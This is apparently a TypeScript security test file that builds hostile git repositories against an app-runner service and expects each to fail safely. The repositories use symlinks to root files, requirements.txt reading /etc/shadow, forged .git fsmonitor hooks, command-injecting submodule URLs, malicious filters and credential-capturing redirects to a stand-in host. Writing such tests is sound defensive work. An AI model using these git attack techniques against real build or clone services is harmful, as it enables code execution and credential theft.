import { attack, filterOf, nothingGot, nothingLives, triedInVain } from '../attack';
import type { Promised, Row } from '../row';
import { GIT_SERVER, type Scene } from '../scene';
import { GIT_SECRET } from '../world';
import { failsBefore, SUCCEEDS } from './promises';

const row = (name: string, script: string, promised: Promised, settings?: Record<string, string>): Row => ({
  name: `repository: ${name}`,
  repository: { script },
  settings,
  promised: { also: nothingGot, ...promised },
});

const links: Row[] = [
  row('app_main is a link to a file of root', 'rm main.py; ln -s /root/canary main.py', failsBefore('BAD_SETTINGS')),
  row(
    'app_main is a link out of the app',
    'rm main.py; ln -s ../../../../srv/app/main.py main.py',
    failsBefore('BAD_SETTINGS'),
  ),
  row('app_main is a link to itself', 'rm main.py; ln -s main.py main.py', failsBefore('BAD_SETTINGS')),
  row('app_main is a folder', 'rm main.py; mkdir main.py; touch main.py/x', failsBefore('BAD_SETTINGS')),
  row(
    'requirements.txt is a link to a file of root',
    'ln -s /root/canary requirements.txt',
    failsBefore('REQUIREMENTS_FAILED'),
  ),
  row(
    'requirements.txt is a link to /dev/zero',
    'ln -s /dev/zero requirements.txt',
    failsBefore('REQUIREMENTS_FAILED'),
  ),
  row(
    'requirements.txt includes a file of root',
    'echo "-r /root/canary" >requirements.txt',
    failsBefore('REQUIREMENTS_FAILED'),
  ),
  row(
    'requirements.txt includes a file of root by a way up',
    'echo "-r ../../../../root/canary" >requirements.txt',
    failsBefore('REQUIREMENTS_FAILED'),
  ),
  row(
    'requirements.txt includes a file of root by a URL',
    'echo "-c file:///etc/shadow" >requirements.txt',
    failsBefore('REQUIREMENTS_FAILED'),
  ),
  row(
    'requirements.txt includes a link to a file of root',
    'echo "-r more.txt" >requirements.txt; ln -s /root/canary more.txt',
    failsBefore('REQUIREMENTS_FAILED'),
  ),
  row('output.zip is a link to a file of root', 'ln -s /root/canary output.zip', SUCCEEDS),
  row('app.log is a link to a file of root', 'ln -s /root/canary app.log', SUCCEEDS),
  row('input.zip is a link out of the app', 'ln -s /etc/row-input input.zip', SUCCEEDS),
  row('the folder of the output is a link out of the app', 'ln -s /etc out', failsBefore('BAD_SETTINGS'), {
    app_out_zip: 'out/row.zip',
  }),
  row('the folder of the input is a link out of the app', 'ln -s /etc in', failsBefore('BAD_SETTINGS'), {
    app_in_zip: 'in/row.zip',
  }),
  row(
    'output.zip is a folder 1500 deep',
    `python3 -c "import os
os.mkdir('output.zip'); os.chdir('output.zip')
for _ in range(1500): os.mkdir('d'); os.chdir('d')
open('x', 'w')"`,
    {
      ...SUCCEEDS,
      record: ['SUCCEEDED', 'BAD_SETTINGS', 'CLONE_FAILED'],
      orFiles: ['output'],
      files: ['status', 'log'],
      runs: [0, 1],
    },
  ),
];

const COUNTS_ROOT =
  'import os, subprocess\nif os.geteuid() == 0: subprocess.run(["/usr/local/bin/tell", "root", __file__])\n';

const tricks: Row[] = [
  {
    name: 'repository: modules with the names that pip and venv use',
    repository: {
      files: {
        ...Object.fromEntries(
          ['pip', 'venv', 'sitecustomize', 'usercustomize', 'ensurepip', 'encodings', 'setuptools', 'hashlib'].map(
            (name) => [`${name}.py`, COUNTS_ROOT],
          ),
        ),
        'requirements.txt': '',
        'pip.conf': '[global]\nindex-url = http://169.254.169.253:9002/\n',
        'setup.cfg': '[install]\nprefix = /\n',
      },
    },
    promised: { ...SUCCEEDS, also: nothingGot },
  },
  row(
    'names with spaces, quotes, line ends and other scripts',
    `touch "a b" "c'd" 'e"f' $'g\\nh' -- '-rf' '$(id)' 'é漢字' .hidden`,
    SUCCEEDS,
  ),
  row(
    'hooks and settings in the place of .git',
    `blob=$(printf '[core]\\n\\thooksPath = hooks\\n\\tfsmonitor = "/usr/local/bin/tell root"\\n' | git hash-object -w --stdin)
git add --all
evil=$(printf '100644 blob %s\\tconfig\\n' "$blob" | git mktree)
all=$({ git ls-tree "$(git write-tree)"; printf '040000 tree %s\\t.git\\n' "$evil"; } | git mktree)
git update-ref HEAD "$(git -c user.name=t -c user.email=t@t commit-tree -m x "$all")"`,
    { ...SUCCEEDS, record: ['SUCCEEDED', 'CLONE_FAILED'], files: ['status', 'log'], orFiles: ['output'], runs: [0, 1] },
  ),
  row(
    'a bare repository inside, with a file system monitor',
    `git init -q --bare bare; printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = "/usr/local/bin/tell root"\\n' >bare/config; touch bare/refs/x bare/objects/x`,
    SUCCEEDS,
  ),
  row(
    'a submodule whose URL is a command',
    `git -c protocol.file.allow=always submodule --quiet add file:///srv/app sub 2>/dev/null || { mkdir sub; git -C sub init -q; git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m x; git add sub; }
printf '[submodule "sub"]\\n\\tpath = sub\\n\\turl = ext::sh -c /usr/local/bin/tell%%20root\\n\\tupdate = !/usr/local/bin/tell root\\n' >.gitmodules`,
    { ...failsBefore('CLONE_FAILED') },
  ),
  row(
    'a submodule that is an option',
    `mkdir sub; git -C sub init -q; git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m x; git add sub
printf '[submodule "sub"]\\n\\tpath = sub\\n\\turl = -u./payload\\n' >.gitmodules`,
    { ...failsBefore('CLONE_FAILED') },
  ),
  row(
    'a submodule that is a file of root',
    `mkdir sub; git -C sub init -q; git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m x; git add sub
printf '[submodule "sub"]\\n\\tpath = sub\\n\\turl = file:///root\\n' >.gitmodules`,
    { ...failsBefore('CLONE_FAILED') },
  ),
];

const filters: Row[] = [
  {
    name: 'filter of a repository looks for the role, the runner and other people',
    repository: filterOf(attack('loot', { ALLOWED: 0 })),
    promised: { ...SUCCEEDS, also: triedInVain('looked') },
  },
  {
    name: 'filter of a private repository looks for its credential',
    settings: { app_credentials: GIT_SECRET },
    repository: filterOf(attack('loot', { ALLOWED: 0 })),
    promised: {
      ...SUCCEEDS,
      also: async (scene) =>
        (await scene.log()).includes('filter.row is not used')
          ? nothingGot(scene)
          : 'the filter is used beside the credential',
    },
  },
  {
    name: 'filter of a repository writes where it must not',
    repository: filterOf(attack('write', { OWN: 'none' })),
    promised: { ...SUCCEEDS, also: triedInVain('tried') },
  },
  {
    name: 'filter of a repository leaves a daemon',
    repository: filterOf(attack('daemon', { KEEPS: 0 })),
    wish: 'import time; time.sleep(3); output()',
    promised: { ...SUCCEEDS, also: nothingLives },
  },
  {
    name: 'filter of a repository tries to end the machine and everybody on it',
    repository: filterOf(attack('end')),
    promised: {
      ...SUCCEEDS,
      record: ['SUCCEEDED', 'CLONE_FAILED'],
      files: ['status', 'log'],
      orFiles: ['output'],
      runs: [0, 1],
      also: nothingGot,
    },
  },
  {
    name: 'filter of a repository never ends',
    settings: { ec2_timeout: '15s' },
    repository: {
      files: {
        '.gitattributes': 'z-filtered filter=row\n',
        'a-filter.sh': 'trap "" TERM; sleep 3600\n',
        'z-filtered': 'x\n',
      },
    },
    promised: failsBefore('TIMED_OUT', 'CLONE_FAILED'),
  },
];

const PRIVATE = { app_credentials: GIT_SECRET };
const server = (name: string, rest: Omit<Row, 'name'>): Row => ({
  ...rest,
  name: `git server: ${name}`,
  settings: { app_url: `${GIT_SERVER}/app/.git`, ...PRIVATE, ...rest.settings },
});
/** Whether anybody but git's own server was told a password. */
const notTold = (scene: Scene) =>
  scene.told().some((text) => text.includes('reader')) ? 'another server was told the credential' : nothingGot(scene);

const servers: Row[] = [
  server('a private repository', { promised: SUCCEEDS }),
  server('no credential', {
    settings: { app_credentials: '' },
    promised: { ...failsBefore('CLONE_FAILED'), message: /app_credentials/ },
  }),
  server('503 once', { git: [{ count: 2, does: { refuse: 503 } }], promised: SUCCEEDS }),
  server('breaks off once', { git: [{ after: 2, count: 1, does: 'half' }], promised: SUCCEEDS }),
  server('never answers', {
    settings: { ec2_timeout: '15s' },
    git: [{ does: 'hang' }],
    promised: failsBefore('TIMED_OUT', 'CLONE_FAILED'),
  }),
  server('a sign-in page instead of a repository', {
    git: [{ does: { refuse: 200, body: '<html>sign in</html>', headers: { 'content-type': 'text/html' } } }],
    promised: { ...failsBefore('CLONE_FAILED'), message: /couldn't find remote ref|not valid/ },
  }),
  server('sends its reader to another server', {
    git: [
      {
        does: {
          refuse: 302,
          headers: { location: 'http://169.254.169.253:9002/private/info/refs?service=git-upload-pack' },
        },
      },
    ],
    promised: { ...failsBefore('CLONE_FAILED'), also: notTold },
  }),
  {
    name: 'repository: a submodule of another server that asks for a password',
    settings: PRIVATE,
    repository: {
      script: `mkdir sub; git -C sub init -q; git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m x; git add sub
printf '[submodule "sub"]\\n\\tpath = sub\\n\\turl = http://169.254.169.253:9002/private\\n' >.gitmodules`,
    },
    promised: { ...failsBefore('CLONE_FAILED'), also: notTold },
  },
  {
    name: 'repository: LFS files of another server that asks for a password',
    settings: PRIVATE,
    repository: {
      files: {
        '.gitattributes': '*.bin filter=lfs -text\n',
        '.lfsconfig': '[lfs]\n\turl = http://169.254.169.253:9002/private\n',
        'large.bin': `version https://git-lfs.github.com/spec/v1\noid sha256:${'0'.repeat(64)}\nsize 10\n`,
      },
    },
    promised: { ...failsBefore('CLONE_FAILED'), also: notTold },
  },
];

export const REPOSITORIES: Row[] = [...links, ...tricks, ...filters, ...servers];
